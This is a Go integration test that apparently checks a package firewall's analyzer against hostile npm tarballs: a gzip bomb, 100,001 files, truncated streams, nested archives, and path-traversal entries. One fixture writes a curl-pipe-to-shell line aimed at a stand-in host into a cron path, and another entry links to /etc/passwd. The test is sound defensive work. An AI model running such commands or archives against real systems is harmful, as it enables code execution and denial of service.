package main_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/threatd/threatd/cmd/internal/apitest"
	"github.com/threatd/threatd/cmd/internal/fakeregistry"
	"github.com/threatd/threatd/cmd/internal/testbin"
)

// hostileTarball packs entries (tar headers with bodies) into a gzip
// stream, with extra bytes of zeros after the last header's declared body
// (a bomb) or cut at cut bytes (truncated) when set.
func hostileTarball(t *testing.T, fill func(tw *tar.Writer), cut int) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz, _ := gzip.NewWriterLevel(&buf, gzip.BestSpeed)
	tw := tar.NewWriter(gz)
	fill(tw)
	_ = tw.Close()
	_ = gz.Close()
	b := buf.Bytes()
	if cut > 0 && cut < len(b) {
		b = b[:cut]
	}
	return b
}

func file(tw *tar.Writer, name string, body []byte) {
	_ = tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))})
	_, _ = tw.Write(body)
}

// TestAnalysisHostileArchives: hostile tarballs published as npm versions
// and fetched through the firewall never harm the daemon or the analyzer
// plugin. A gzip bomb, 100,001 files and a truncated stream each get the
// verdict error with the reason, within the time limit; ../ paths, links
// and devices are left out and the rest is read; nesting past three
// levels is read as files. The daemon's and the plugin's peak resident
// sets stay bounded by the limits, not by the archives (512 MiB of zeros
// unpacked would be far more).
func TestAnalysisHostileArchives(t *testing.T) {
	t.Parallel()
	testbin.NeedAnalyzer(t)
	zeros := make([]byte, 1<<20)
	cases := map[string]struct {
		tgz     []byte
		verdict string
		reason  string
	}{
		"bomb": {hostileTarball(t, func(tw *tar.Writer) {
			_ = tw.WriteHeader(&tar.Header{Name: "package/index.js", Typeflag: tar.TypeReg, Mode: 0o644, Size: 512 << 20})
			for range 512 {
				_, _ = tw.Write(zeros)
			}
		}, 0), "error", "max_file_bytes"},
		"many-files": {hostileTarball(t, func(tw *tar.Writer) {
			file(tw, "package/package.json", []byte(`{"name":"x","version":"1.0.1"}`))
			for i := range 100_000 {
				file(tw, fmt.Sprintf("package/f/%d.js", i), []byte("x"))
			}
		}, 0), "error", "max_files"},
		"truncated": {hostileTarball(t, func(tw *tar.Writer) {
			file(tw, "package/package.json", []byte(`{"name":"x","version":"1.0.1"}`))
			file(tw, "package/index.js", bytes.Repeat([]byte("module.exports = 1;\n"), 5000))
		}, 300), "error", ""},
		"escapes": {hostileTarball(t, func(tw *tar.Writer) {
			file(tw, "package/package.json", []byte(`{"name":"x","version":"1.0.1"}`))
			file(tw, "../../etc/cron.d/x.js", []byte("require('child_process').exec('curl https://x.invalid | sh')"))
			_ = tw.WriteHeader(&tar.Header{Name: "package/link.js", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"})
			_ = tw.WriteHeader(&tar.Header{Name: "package/hard.js", Typeflag: tar.TypeLink, Linkname: "package/package.json"})
			_ = tw.WriteHeader(&tar.Header{Name: "package/dev", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 3})
			file(tw, "package/index.js", []byte("module.exports = 1;\n"))
		}, 0), "clean", ""},
	}
	nested := []byte("module.exports = 'deepest';\n")
	for range 6 {
		nested = hostileTarball(t, func(tw *tar.Writer) { file(tw, "package/inner.tgz", nested) }, 0)
	}
	cases["nested"] = struct {
		tgz     []byte
		verdict string
		reason  string
	}{nested, "clean", ""}

	u := fakeregistry.New(t)
	old := fakeregistry.OldTimes(2)
	for name, c := range cases {
		// The hostile version's tarball replaces the one made for it.
		u.NPMPackageFiles(t, "hostile-"+name, []fakeregistry.NPMRelease{
			{Version: "1.0.0", At: old[0], Files: map[string]string{"index.js": "module.exports = 1;\n"}},
			{Version: "1.0.1", At: old[1], Files: map[string]string{"index.js": "placeholder"}},
		})
		u.Put("/hostile-"+name+"/-/hostile-"+name+"-1.0.1.tgz", "application/octet-stream", 31536000, c.tgz)
	}
	in := newInstance(t, quiet+fwConfig(u)+"analysis:\n  timeout: 30s\n")
	tok := in.user("dev@example.com")
	d := in.serve()
	for name := range cases {
		d.fwGet(base+"/firewall/npm/hostile-"+name+"/-/hostile-"+name+"-1.0.1.tgz", tok)
	}
	started := time.Now()
	for name, c := range cases {
		purl := "pkg:npm/hostile-" + name + "@1.0.1"
		var r response
		// An analysis runs in a plugin process, which a loaded CI machine
		// may take long to schedule: a minute, not the freshness bound.
		apitest.Eventually(t, purl+" analysed", time.Minute, func() bool {
			r = d.do("GET", base+"/analysis?purl="+purl, tok, "")
			return r.code == 200
		})
		reason, _ := r.body["reason"].(string)
		if r.body["verdict"] != c.verdict || !strings.Contains(reason, c.reason) {
			b, _ := json.Marshal(r.body)
			t.Errorf("%s: %s, want %s %q", name, b, c.verdict, c.reason)
		}
		if c.verdict == "error" && reason == "" {
			t.Errorf("%s: an error without its reason", name)
		}
	}
	log := d.logText()
	m := regexp.MustCompile(`"msg":"plugin started","plugin":"threatd-analyzer-rules","path":"[^"]*","pid":(\d+)`).FindStringSubmatch(log)
	if m == nil {
		t.Fatalf("no analyzer plugin in the log:\n%s", log)
	}
	pid, _ := strconv.Atoi(m[1])
	plugin, daemonRSS := peakRSS(t, pid), peakRSS(t, d.cmd.Process.Pid)
	t.Logf("hostile archives analysed in %s; peak RSS: daemon %d MiB, analyzer plugin %d MiB", time.Since(started).Round(time.Millisecond), daemonRSS>>20, plugin>>20)
	// The bounds: a file is read whole up to max_file_bytes (32 MiB); the
	// bomb alone would be 512 MiB.
	if plugin > 256<<20 || daemonRSS > 256<<20 {
		t.Errorf("peak RSS: daemon %d MiB, plugin %d MiB (over 256 MiB)", daemonRSS>>20, plugin>>20)
	}
	if r := d.do("GET", base+"/analysis?purl=pkg:npm/hostile-bomb@1.0.0", tok, ""); r.code != 404 {
		t.Errorf("the version before was never fetched: %d", r.code)
	}

	// The plugin killed (a crash on some archive): the next analysis
	// starts it again. threatd analysis queue writes to the database; the
	// daemon finds the version at its next look.
	first := d.do("GET", base+"/analysis?purl=pkg:npm/hostile-escapes@1.0.1", tok, "").body["analyzed_at"]
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	waitGone(t, pid)
	time.Sleep(1100 * time.Millisecond) // analyzed_at is to the second
	in.mustCLI("analysis", "queue", "pkg:npm/hostile-escapes@1.0.1")
	eventually(t, "the analysis again, by a new plugin process", func() bool {
		r := d.do("GET", base+"/analysis?purl=pkg:npm/hostile-escapes@1.0.1", tok, "")
		return r.code == 200 && r.body["state"] == "done" && r.body["analyzed_at"] != first && r.body["verdict"] == "clean"
	})
	if n := strings.Count(d.logText(), `"msg":"plugin started","plugin":"threatd-analyzer-rules"`); n != 2 {
		t.Errorf("the analyzer plugin started %d times, want 2", n)
	}
}
